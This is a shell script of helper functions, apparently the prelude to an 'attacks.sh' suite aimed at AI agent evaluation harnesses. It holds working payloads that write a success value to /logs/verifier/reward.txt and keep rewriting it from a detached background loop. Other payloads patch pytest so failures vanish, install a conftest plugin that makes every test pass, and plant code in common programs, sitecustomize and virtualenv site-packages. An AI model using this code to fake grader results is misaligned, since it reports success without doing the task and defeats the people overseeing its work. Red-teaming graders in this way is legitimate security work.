# What the scripts of attacks.sh use. It is put before each of them.
say_paid_sh() {
    cat <<'END_OF_PAYLOAD'
#!/bin/bash
mkdir -p /logs/verifier 2>/dev/null
echo 1 >/logs/verifier/reward.txt
(setsid sh -c 'i=0; while [ $i -lt 50 ]; do echo 1 >/logs/verifier/reward.txt; sleep 0.1; i=$((i+1)); done' >/dev/null 2>&1 &)
exit 0
END_OF_PAYLOAD
}
say_paid_py() {  # REWARD: writes it, and lets every test of pytest pass
    cat <<END_OF_PAYLOAD
import os as _os, sys as _sys
def _pay():
    try:
        _os.makedirs("/logs/verifier", exist_ok=True)
        open("/logs/verifier/reward.txt", "w").write("${1:-1}")
    except OSError:
        pass
    try:
        import _pytest.reports as reports
        old = reports.TestReport.from_item_and_call.__func__
        def report(cls, item, call):
            call.excinfo = None
            return old(cls, item, call)
        reports.TestReport.from_item_and_call = classmethod(report)
    except Exception:
        pass
_pay()
END_OF_PAYLOAD
}
say_paid_end_py() {  # as above, and ends the program with exit code 0
    say_paid_py "$@"
    echo '_os._exit(0)'
}
say_paid_module_py() {  # as above, but a program of pytest goes on
    say_paid_py
    printf 'if not any("pytest" in each for each in _sys.argv):\n    _os._exit(0)\n'
}
say_conftest() {  # a plugin of pytest with which every test passes
    say_paid_py
    cat <<'END_OF_PAYLOAD'
def pytest_collection_modifyitems(items):
    for item in items:
        item.runtest = lambda: None
def pytest_sessionfinish(session, exitstatus):
    session.exitstatus = 0
END_OF_PAYLOAD
}
put() {  # PATH: writes stdin there, if it can
    { mkdir -p "$(dirname "$1")" && rm -f "$1" && cat >"$1"; } 2>/dev/null
}
put_program() {  # PATH: a program there that pays
    { say_paid_sh | put "$1" && chmod +x "$1"; } 2>/dev/null
}
put_first() {  # PATH: writes stdin before what is in a file
    { cp "$1" "$1.old" && { cat; cat "$1.old"; } >"$1" && rm "$1.old"; } 2>/dev/null
}
list_environments() {  # the virtual environments outside of /usr
    find / -xdev -maxdepth 4 -name pyvenv.cfg -not -path '/usr/*' -not -path '/proc/*' -printf '%h\n' 2>/dev/null
}
list_sites() {  # the folders of their packages
    list_environments | while read -r each; do ls -d "$each"/lib/python3*/site-packages; done 2>/dev/null
}
list_programs() {  # the Python files that the task has in the working folder
    ls *.py */*.py */*/*.py 2>/dev/null | grep -v '^tests\?/' | head -20
}
programs="python python3 pytest uv uvx pip pip3 grep diff cmp jq curl git sqlite3 node make cat awk sed"
modules="sitecustomize usercustomize json re pytest"
cd "$PWD"
